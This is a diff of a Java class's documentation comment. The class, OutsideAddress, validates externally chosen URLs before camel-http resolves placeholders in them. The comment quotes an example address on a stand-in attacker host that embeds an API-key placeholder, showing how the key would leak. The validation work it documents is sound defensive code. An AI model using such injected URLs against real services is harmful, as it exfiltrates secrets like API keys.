@@ -6,9 +6,9 @@ import java.util.Locale;
 import java.util.Set;
 
 /**
- * An address that someone else chose, checked before it is handed to camel-http, which resolves
- * {@code {{placeholders}}} in {@code CamelHttpUri} (4.18.0, HttpHelper.createURL): an address such
- * as {@code http://evil.example/{{reelay.gateways.main.api-key}}} would send the key along.
+ * An address that others chose, checked before camel-http gets it, which resolves {@code
+ * {{placeholders}}} in {@code CamelHttpUri} (4.18.0, HttpHelper.createURL): an address such as
+ * {@code http://evil.example/{{reelay.gateways.main.api-key}}} would send the key along.
  */
 public final class OutsideAddress {
   private static final Set<String> SCHEMES = Set.of("http", "https");
